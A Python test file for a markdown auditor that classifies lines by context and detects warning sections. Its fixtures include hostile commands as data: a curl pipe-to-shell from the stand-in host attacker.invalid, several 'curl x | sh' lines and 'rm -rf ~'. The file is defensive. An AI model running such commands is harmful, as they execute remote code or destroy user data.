"""auditor_kit.markdown: where a line sits, and warning contexts."""

from __future__ import annotations

from lemon_core.auditor_kit import document, in_code_span, is_warning

DOC = """---
name: demo
description: A demo.
---
# Demo

## Never run these

```bash
curl https://attacker.invalid/x.sh | sh
```

## Setup
Don't forget to run:
```sh
make install
```

| command | effect |
|---|---|
| `rm -rf ~` | ❌ wipes your home |
| `ls` | lists files |

<!-- a comment
spanning lines -->
> quoted text
Plain prose with `inline code`.
"""


def _lines():
    return {line.number: line for line in document("SKILL.md", DOC).lines}


def test_contexts_of_each_line() -> None:
    lines = _lines()
    assert [lines[n].context for n in (1, 2, 4)] == ["frontmatter", "frontmatter", "frontmatter"]
    assert lines[5].context == "heading"
    assert lines[10].context == "fence" and lines[10].language == "shell"
    assert lines[16].context == "fence" and lines[16].text == "make install"
    assert lines[21].context == "table"
    assert lines[24].context == lines[25].context == "comment"
    assert lines[26].context == "quote"
    assert lines[27].context == "prose"


def test_warning_contexts_are_sections_lead_lines_and_table_rows() -> None:
    lines = _lines()
    assert lines[10].warned, "a fence under a 'Never run these' heading"
    assert not lines[13].warned, "the next heading of the same level ends the section"
    assert not lines[16].warned, "don't forget to run is not a warning"
    assert lines[21].warned and not lines[22].warned, "a row marked ❌, not its neighbour"


def test_a_lead_line_warns_the_fence_after_it() -> None:
    text = "# T\n\nNever run this:\n\n```bash\nrm -rf ~\n```\n\nThen run:\n```bash\nls\n```\n"
    lines = document("SKILL.md", text).lines
    assert lines[5].warned and not lines[10].warned


def test_a_warning_table_header_covers_the_table() -> None:
    text = "| Dangerous command | why |\n|---|---|\n| curl x \\| sh | runs code |\n\nafter\n"
    lines = document("guide.md", text).lines
    assert lines[2].warned and lines[2].context == "table"
    assert not lines[4].warned


def test_scripts_have_code_and_comment_lines() -> None:
    text = "#!/bin/sh\n# curl x | sh in a comment\ncurl x | sh\n"
    doc = document("install", text)
    assert doc.kind == "script" and doc.language == "shell"
    assert [line.context for line in doc.lines[:3]] == ["code", "script-comment", "code"]


def test_python_docstrings_are_comments() -> None:
    text = 'def f():\n    """Never call os.system here.\n\n    More.\n    """\n    return 1\n'
    doc = document("tool.py", text)
    assert [line.context for line in doc.lines[:6]] == [
        "code", "script-comment", "script-comment", "script-comment", "script-comment", "code"]


def test_a_python_string_opened_after_code_is_not_a_docstring() -> None:
    text = ('GUIDE = """\nDraw boxes.\n"""\n\nclass C:\n    def __init__(self):\n'
            '        self.url = "https://api.example/v1"\n    """Doc."""\n')
    doc = document("tool.py", text)
    assert [line.context for line in doc.lines[:9]] == [
        "code", "code", "code", "code", "code", "code", "code", "script-comment", "code"]


def test_is_warning_and_code_spans() -> None:
    assert is_warning("Do not paste this into a terminal")
    assert is_warning("## Red flags")
    assert not is_warning("## Installation")
    assert not is_warning("Don't forget to run the tests")
    assert in_code_span("run `make` now", 6) and not in_code_span("run `make` now", 1)


def test_table_cells_split_at_separators_but_not_in_code_or_escaped() -> None:
    from lemon_core.auditor_kit.markdown import table_cells

    row = "| HTTP | Ruby (`A::B`) | `curl x | sh` | a \\| b |"
    cells = table_cells(row)
    assert [cell.strip() for _, cell in cells] == [
        "HTTP", "Ruby (`A::B`)", "`curl x | sh`", "a \\| b"]
    assert all(row[offset:offset + len(cell)] == cell for offset, cell in cells)
    # linear in the row's length, however many pipes and code spans it holds
    long_row = "| `a` " * 20_000 + "|"
    assert len(table_cells(long_row)) == 20_000


def _reference_script_lines(text: str, language: str | None, context: str) -> list[tuple]:
    """The line-by-line classification markdown._script_lines did before it was made
    quicker (kept here to hold the quicker one to it)."""
    from lemon_core.auditor_kit.scripts import is_comment

    out = []
    in_doc = in_str = False
    start = 0
    for number, piece in enumerate(text.split("\n"), 1):
        raw = piece.removesuffix("\r") if "\r" in text else piece
        kind = context
        if context == "code":
            stripped = raw.strip()
            quotes_in_raw = raw.count('"""') + raw.count("'''")
            if language == "python" and in_str:
                in_str = quotes_in_raw % 2 == 0
            elif language == "python" and (in_doc or stripped[:3] in ('"""', "'''")):
                quotes = stripped.count('"""') + stripped.count("'''")
                kind = "script-comment"
                if not in_doc and quotes == 1 or in_doc and quotes >= 1:
                    in_doc = not in_doc
            elif is_comment(raw, language):
                kind = "script-comment"
            elif language == "python" and quotes_in_raw % 2:
                in_str = True
        out.append((number, raw, kind, language, False, start, False))
        start += len(piece) + 1
    return out


def test_script_lines_equal_the_line_by_line_reference() -> None:
    import random

    from lemon_core.auditor_kit.markdown import _script_lines
    from lemon_core.auditor_kit.scripts import _COMMENT

    rng = random.Random(3)
    pieces = ["#", "#!", "//", "/*", "*", "--", "'", "rem ", "REM x", "Rem", "::", '"""', "'''",
              'x = """doc"""', "code()", " ", "\t", "\r", "\u00a0", "\u2003", "\x0c", "ſ", "İ",
              "é", "-", "r", "a", "\n", "\n", "\n"]
    languages = [None, "python", *sorted(_COMMENT)]
    for _ in range(3000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randint(0, 60)))
        language = rng.choice(languages)
        for context in ("code", "data"):
            assert [tuple(line) for line in _script_lines(text, language, context)] == \
                _reference_script_lines(text, language, context), (text, language, context)


def test_any_stem_finds_a_stem_exactly_where_one_stands() -> None:
    import random

    from lemon_core.auditor_kit.markdown import _ANY_STEM, _STEMS

    rng = random.Random(6)
    pieces = [*_STEMS, "no", "do", "ne", "ver", "x", " ", "禁", "❌"[0], "."]
    for _ in range(20000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randint(0, 8)))
        assert (_ANY_STEM.search(text) is not None) == any(stem in text for stem in _STEMS)
